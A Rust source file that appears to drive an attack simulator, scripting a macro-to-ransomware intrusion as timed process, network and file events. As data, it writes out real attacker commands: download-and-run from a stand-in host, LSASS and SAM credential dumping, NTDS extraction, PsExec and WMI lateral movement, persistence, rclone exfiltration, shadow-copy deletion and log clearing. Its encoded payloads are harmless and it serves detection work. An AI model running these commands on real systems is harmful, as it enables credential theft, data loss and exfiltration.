//! The script of the intrusion: a macro in an invoice, and some minutes later a file server without its files.
//!
//! Every step is one event. What decodes from its commands is harmless, and nothing here is a working tool.

use super::{
    Stage::{self, *},
    action::{Action, Who},
    world::{DOMAIN_CONTROLLER, FILE_SERVER},
};

pub(super) struct Step {
    /// Second of the script; the scenario stretches or compresses it.
    pub second: u32,
    pub stage: Stage,
    pub host: usize,
    pub action: Action,
}

/// Length of the script.
pub(super) const SECONDS: u32 = 378;

const PATIENT_ZERO: usize = 0;
const PEER: usize = 1;

/// Decodes to a `Write-Output` that says what it is.
const ENCODED: &str = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAFQAaABpAHMAIABpAHMAIABhACAAcwBpAG0AdQBsAGEAdABpAG8AbgAnADsAIABTAHQAYQByAHQALQBTAGwAZQBlAHAAIAAtAFMAZQBjAG8AbgBkAHMAIAAxAA==";

const fn step(second: u32, stage: Stage, host: usize, action: Action) -> Step {
    Step {
        second,
        stage,
        host,
        action,
    }
}

#[rustfmt::skip]
pub(super) const STEPS: &[Step] = &[
    // InitialAccess
    step(8, InitialAccess, PATIENT_ZERO, Action::Start { role: "outlook", parent: "explorer", image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", command: r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#, who: Who::Owner }),
    step(13, InitialAccess, PATIENT_ZERO, Action::Create { role: "outlook", file: r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8R2X\Invoice 4711.docm" }),
    step(15, InitialAccess, PATIENT_ZERO, Action::Download { role: "outlook", file: r"C:\Users\{user}\Downloads\Invoice 4711.docm", url: "https://files.update-check.example/Invoice.docm" }),
    step(21, InitialAccess, PATIENT_ZERO, Action::Start { role: "word", parent: "outlook", image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", command: r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice 4711.docm" /o """#, who: Who::Owner }),
    step(24, InitialAccess, PATIENT_ZERO, Action::Load { role: "word", library: r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL", signed: true }),
    step(29, InitialAccess, PATIENT_ZERO, Action::CreateKey { role: "word", key: r"HKU\S-1-5-21-1004-2003-3002-1107\Software\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords" }),
    step(31, InitialAccess, PATIENT_ZERO, Action::Resolve { role: "word", name: "cdn.update-check.example", address: "203.0.113.66" }),
    // Execution
    step(41, Execution, PATIENT_ZERO, Action::Start { role: "dropper", parent: "word", image: r"C:\Windows\System32\cmd.exe", command: "cmd.exe /c powershell.exe -W Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAFQAaABpAHMAIABpAHMAIABhACAAcwBpAG0AdQBsAGEAdABpAG8AbgAnAA==", who: Who::Owner }),
    step(42, Execution, PATIENT_ZERO, Action::Audit { role: "dropper" }),
    step(43, Execution, PATIENT_ZERO, Action::Start { role: "stager", parent: "dropper", image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", command: ENCODED, who: Who::Owner }),
    step(44, Execution, PATIENT_ZERO, Action::Audit { role: "stager" }),
    step(46, Execution, PATIENT_ZERO, Action::Script { role: "stager", text: "IEX (New-Object Net.WebClient).DownloadString('https://cdn.update-check.example/a.ps1')" }),
    step(47, Execution, PATIENT_ZERO, Action::Resolve { role: "stager", name: "cdn.update-check.example", address: "203.0.113.66" }),
    step(48, Execution, PATIENT_ZERO, Action::Connect { role: "stager", name: "cdn.update-check.example", address: "203.0.113.66", port: 443 }),
    step(50, Execution, PATIENT_ZERO, Action::End { role: "dropper" }),
    step(56, Execution, PATIENT_ZERO, Action::Start { role: "certutil", parent: "stager", image: r"C:\Windows\System32\certutil.exe", command: r"certutil.exe -urlcache -split -f https://cdn.update-check.example/update.bin C:\Users\{user}\AppData\Local\Temp\update.exe", who: Who::Owner }),
    step(57, Execution, PATIENT_ZERO, Action::Connect { role: "certutil", name: "cdn.update-check.example", address: "203.0.113.66", port: 443 }),
    step(59, Execution, PATIENT_ZERO, Action::Create { role: "certutil", file: r"C:\Users\{user}\AppData\Local\Temp\update.exe" }),
    step(60, Execution, PATIENT_ZERO, Action::End { role: "certutil" }),
    step(65, Execution, PATIENT_ZERO, Action::Start { role: "implant", parent: "stager", image: r"C:\Users\{user}\AppData\Local\Temp\update.exe", command: r"C:\Users\{user}\AppData\Local\Temp\update.exe -s", who: Who::Owner }),
    step(68, Execution, PATIENT_ZERO, Action::Connect { role: "implant", name: "cdn.update-check.example", address: "203.0.113.66", port: 8443 }),
    step(70, Execution, PATIENT_ZERO, Action::CreatePipe { role: "implant", pipe: r"\postex_{n}" }),
    step(74, Execution, PATIENT_ZERO, Action::Inject { role: "implant", target: "explorer" }),
    // Discovery
    step(86, Discovery, PATIENT_ZERO, Action::Start { role: "shell", parent: "implant", image: r"C:\Windows\System32\cmd.exe", command: "cmd.exe", who: Who::Owner }),
    step(93, Discovery, PATIENT_ZERO, Action::Start { role: "whoami", parent: "shell", image: r"C:\Windows\System32\whoami.exe", command: "whoami  /all", who: Who::Owner }),
    step(100, Discovery, PATIENT_ZERO, Action::Start { role: "systeminfo", parent: "shell", image: r"C:\Windows\System32\systeminfo.exe", command: "systeminfo", who: Who::Owner }),
    step(107, Discovery, PATIENT_ZERO, Action::Start { role: "ipconfig", parent: "shell", image: r"C:\Windows\System32\ipconfig.exe", command: "ipconfig  /all", who: Who::Owner }),
    step(114, Discovery, PATIENT_ZERO, Action::Start { role: "net", parent: "shell", image: r"C:\Windows\System32\net.exe", command: r#"net  group "Domain Admins" /domain"#, who: Who::Owner }),
    step(121, Discovery, PATIENT_ZERO, Action::Start { role: "net1", parent: "net", image: r"C:\Windows\System32\net1.exe", command: r#"C:\Windows\system32\net1  group "Domain Admins" /domain"#, who: Who::Owner }),
    step(128, Discovery, PATIENT_ZERO, Action::Start { role: "nltest", parent: "shell", image: r"C:\Windows\System32\nltest.exe", command: "nltest  /domain_trusts /all_trusts", who: Who::Owner }),
    step(135, Discovery, PATIENT_ZERO, Action::Start { role: "netview", parent: "shell", image: r"C:\Windows\System32\net.exe", command: r"net  view \\{files}", who: Who::Owner }),
    step(142, Discovery, PATIENT_ZERO, Action::Start { role: "quser", parent: "shell", image: r"C:\Windows\System32\quser.exe", command: "quser", who: Who::Owner }),
    step(149, Discovery, PATIENT_ZERO, Action::Start { role: "tasklist", parent: "shell", image: r"C:\Windows\System32\tasklist.exe", command: "tasklist  /v", who: Who::Owner }),
    step(150, Discovery, PATIENT_ZERO, Action::End { role: "whoami" }),
    step(155, Discovery, PATIENT_ZERO, Action::Script { role: "stager", text: "Get-ADComputer -Filter * -Properties OperatingSystem | Select-Object Name,OperatingSystem" }),
    step(156, Discovery, DOMAIN_CONTROLLER, Action::Logon { who: Who::Owner, from: 0, kind: "3" }),
    // CredentialAccess
    step(170, CredentialAccess, PATIENT_ZERO, Action::Start { role: "elevated", parent: "implant", image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", command: ENCODED, who: Who::System }),
    step(174, CredentialAccess, PATIENT_ZERO, Action::Start { role: "dump", parent: "elevated", image: r"C:\Windows\System32\rundll32.exe", command: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Users\Public\lsass.dmp full", who: Who::System }),
    step(175, CredentialAccess, PATIENT_ZERO, Action::Audit { role: "dump" }),
    step(176, CredentialAccess, PATIENT_ZERO, Action::Load { role: "dump", library: r"C:\Windows\System32\comsvcs.dll", signed: true }),
    step(177, CredentialAccess, PATIENT_ZERO, Action::Load { role: "dump", library: r"C:\Windows\System32\dbgcore.dll", signed: true }),
    step(178, CredentialAccess, PATIENT_ZERO, Action::Access { role: "dump", target: "lsass", granted: "0x1FFFFF", trace: r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\dbgcore.DLL+16a54|C:\Windows\System32\comsvcs.dll+2a8b1" }),
    step(179, CredentialAccess, PATIENT_ZERO, Action::Create { role: "dump", file: r"C:\Users\Public\lsass.dmp" }),
    step(181, CredentialAccess, PATIENT_ZERO, Action::End { role: "dump" }),
    step(189, CredentialAccess, PATIENT_ZERO, Action::Start { role: "regsave", parent: "elevated", image: r"C:\Windows\System32\reg.exe", command: r"reg.exe save HKLM\SAM C:\Users\Public\sam.save", who: Who::System }),
    step(190, CredentialAccess, PATIENT_ZERO, Action::Create { role: "regsave", file: r"C:\Users\Public\sam.save" }),
    step(196, CredentialAccess, PATIENT_ZERO, Action::Delete { role: "elevated", file: r"C:\Users\Public\lsass.dmp" }),
    // LateralMovement
    step(211, LateralMovement, PATIENT_ZERO, Action::Start { role: "psexec", parent: "shell", image: r"C:\Users\{user}\AppData\Local\Temp\PsExec64.exe", command: r"PsExec64.exe \\{peer} -accepteula -s cmd.exe", who: Who::Owner }),
    step(212, LateralMovement, PATIENT_ZERO, Action::Connect { role: "psexec", name: "", address: "#1", port: 445 }),
    step(213, LateralMovement, PEER, Action::Logon { who: Who::Admin, from: 0, kind: "3" }),
    step(214, LateralMovement, PEER, Action::Privileges { who: Who::Admin }),
    step(215, LateralMovement, PEER, Action::Share { who: Who::Admin, from: 0, share: r"\\*\ADMIN$", file: "PSEXESVC.exe" }),
    step(216, LateralMovement, PEER, Action::Create { role: "system", file: r"C:\Windows\PSEXESVC.exe" }),
    step(217, LateralMovement, PEER, Action::Service { name: "PSEXESVC", path: r"%SystemRoot%\PSEXESVC.exe" }),
    step(218, LateralMovement, PEER, Action::Start { role: "psexesvc", parent: "services", image: r"C:\Windows\PSEXESVC.exe", command: r"C:\Windows\PSEXESVC.exe", who: Who::System }),
    step(219, LateralMovement, PEER, Action::CreatePipe { role: "psexesvc", pipe: r"\PSEXESVC" }),
    step(220, LateralMovement, PEER, Action::ConnectPipe { role: "system", pipe: r"\PSEXESVC" }),
    step(222, LateralMovement, PEER, Action::Start { role: "remote", parent: "psexesvc", image: r"C:\Windows\System32\cmd.exe", command: "cmd.exe", who: Who::System }),
    step(226, LateralMovement, PEER, Action::Start { role: "remotewho", parent: "remote", image: r"C:\Windows\System32\whoami.exe", command: "whoami", who: Who::System }),
    step(238, LateralMovement, PATIENT_ZERO, Action::Start { role: "wmic", parent: "shell", image: r"C:\Windows\System32\wbem\WMIC.exe", command: r#"wmic /node:"{files}" process call create "powershell.exe -W Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAFQAaABpAHMAIABpAHMAIABhACAAcwBpAG0AdQBsAGEAdABpAG8AbgAnAA==""#, who: Who::Owner }),
    step(239, LateralMovement, PATIENT_ZERO, Action::Connect { role: "wmic", name: "", address: "#2", port: 135 }),
    step(240, LateralMovement, FILE_SERVER, Action::Logon { who: Who::Admin, from: 0, kind: "3" }),
    step(241, LateralMovement, FILE_SERVER, Action::Privileges { who: Who::Admin }),
    step(242, LateralMovement, FILE_SERVER, Action::Start { role: "wmiprvse", parent: "services", image: r"C:\Windows\System32\wbem\WmiPrvSE.exe", command: r"C:\Windows\System32\wbem\wmiprvse.exe -secured -Embedding", who: Who::System }),
    step(243, LateralMovement, FILE_SERVER, Action::Start { role: "wmishell", parent: "wmiprvse", image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", command: ENCODED, who: Who::Admin }),
    step(244, LateralMovement, FILE_SERVER, Action::Audit { role: "wmishell" }),
    step(246, LateralMovement, FILE_SERVER, Action::Connect { role: "wmishell", name: "cdn.update-check.example", address: "203.0.113.66", port: 443 }),
    step(258, LateralMovement, DOMAIN_CONTROLLER, Action::Start { role: "dcwmiprvse", parent: "services", image: r"C:\Windows\System32\wbem\WmiPrvSE.exe", command: r"C:\Windows\System32\wbem\wmiprvse.exe -secured -Embedding", who: Who::System }),
    step(260, LateralMovement, DOMAIN_CONTROLLER, Action::Start { role: "ntdsutil", parent: "dcwmiprvse", image: r"C:\Windows\System32\ntdsutil.exe", command: r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q"#, who: Who::Admin }),
    step(263, LateralMovement, DOMAIN_CONTROLLER, Action::Create { role: "ntdsutil", file: r"C:\Windows\Temp\ifm\Active Directory\ntds.dit" }),
    // Persistence
    step(278, Persistence, PATIENT_ZERO, Action::Start { role: "schtasks", parent: "shell", image: r"C:\Windows\System32\schtasks.exe", command: r#"schtasks /create /sc minute /mo 30 /tn "OneDrive Updater" /tr "C:\Users\{user}\AppData\Local\Temp\update.exe -s" /f"#, who: Who::Owner }),
    step(279, Persistence, PATIENT_ZERO, Action::Task { who: Who::Owner, name: r"\OneDrive Updater", command: r"C:\Users\{user}\AppData\Local\Temp\update.exe" }),
    step(287, Persistence, PATIENT_ZERO, Action::Start { role: "regrun", parent: "shell", image: r"C:\Windows\System32\reg.exe", command: r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "C:\Users\{user}\AppData\Local\Temp\update.exe -s" /f"#, who: Who::Owner }),
    step(288, Persistence, PATIENT_ZERO, Action::SetValue { role: "regrun", key: r"HKU\S-1-5-21-1004-2003-3002-1107\Software\Microsoft\Windows\CurrentVersion\Run\Updater", details: r"C:\Users\{user}\AppData\Local\Temp\update.exe -s" }),
    step(297, Persistence, FILE_SERVER, Action::Start { role: "netuser", parent: "wmishell", image: r"C:\Windows\System32\net.exe", command: "net  user helpdesk2 P4ss-simulated /add", who: Who::Admin }),
    step(300, Persistence, FILE_SERVER, Action::Start { role: "netgroup", parent: "wmishell", image: r"C:\Windows\System32\net.exe", command: "net  localgroup Administrators helpdesk2 /add", who: Who::Admin }),
    step(308, Persistence, PEER, Action::Start { role: "sc", parent: "remote", image: r"C:\Windows\System32\sc.exe", command: r#"sc  create WinUpdSvc binPath= "C:\Windows\Temp\update.exe -s" start= auto"#, who: Who::System }),
    step(309, Persistence, PEER, Action::Service { name: "WinUpdSvc", path: r"C:\Windows\Temp\update.exe -s" }),
    // Impact
    step(323, Impact, FILE_SERVER, Action::Start { role: "seven", parent: "wmishell", image: r"C:\Windows\Temp\7z.exe", command: r"7z.exe a -psimulated -mhe C:\Windows\Temp\fin.7z D:\Finance\*", who: Who::Admin }),
    step(326, Impact, FILE_SERVER, Action::Create { role: "seven", file: r"C:\Windows\Temp\fin.7z" }),
    step(333, Impact, FILE_SERVER, Action::Start { role: "rclone", parent: "wmishell", image: r"C:\Windows\Temp\rclone.exe", command: r"rclone.exe copy C:\Windows\Temp\fin.7z relay:drop --config C:\Windows\Temp\r.conf --no-check-certificate --transfers 8", who: Who::Admin }),
    step(334, Impact, FILE_SERVER, Action::Resolve { role: "rclone", name: "drop.file-relay.example", address: "198.51.100.23" }),
    step(335, Impact, FILE_SERVER, Action::Connect { role: "rclone", name: "drop.file-relay.example", address: "198.51.100.23", port: 443 }),
    step(351, Impact, FILE_SERVER, Action::Start { role: "vssadmin", parent: "wmishell", image: r"C:\Windows\System32\vssadmin.exe", command: "vssadmin.exe delete shadows /all /quiet", who: Who::Admin }),
    step(352, Impact, FILE_SERVER, Action::Audit { role: "vssadmin" }),
    step(356, Impact, FILE_SERVER, Action::Start { role: "wbadmin", parent: "wmishell", image: r"C:\Windows\System32\wbadmin.exe", command: "wbadmin.exe delete catalog -quiet", who: Who::Admin }),
    step(360, Impact, FILE_SERVER, Action::Start { role: "bcdedit", parent: "wmishell", image: r"C:\Windows\System32\bcdedit.exe", command: "bcdedit.exe /set {default} recoveryenabled no", who: Who::Admin }),
    step(362, Impact, FILE_SERVER, Action::Create { role: "wmishell", file: r"D:\Finance\2023.xlsx.locked" }),
    step(363, Impact, FILE_SERVER, Action::Delete { role: "wmishell", file: r"D:\Finance\2023.xlsx" }),
    step(365, Impact, FILE_SERVER, Action::Create { role: "wmishell", file: r"D:\Finance\2024.xlsx.locked" }),
    step(366, Impact, FILE_SERVER, Action::Delete { role: "wmishell", file: r"D:\Finance\2024.xlsx" }),
    step(368, Impact, FILE_SERVER, Action::Create { role: "wmishell", file: r"D:\Finance\Payroll.xlsx.locked" }),
    step(369, Impact, FILE_SERVER, Action::Delete { role: "wmishell", file: r"D:\Finance\Payroll.xlsx" }),
    step(371, Impact, FILE_SERVER, Action::Create { role: "wmishell", file: r"D:\Finance\README_RESTORE_FILES.txt" }),
    step(377, Impact, FILE_SERVER, Action::Start { role: "wevtutil", parent: "wmishell", image: r"C:\Windows\System32\wevtutil.exe", command: "wevtutil.exe cl Security", who: Who::Admin }),
    step(378, Impact, FILE_SERVER, Action::ClearLog { who: Who::Admin }),
];
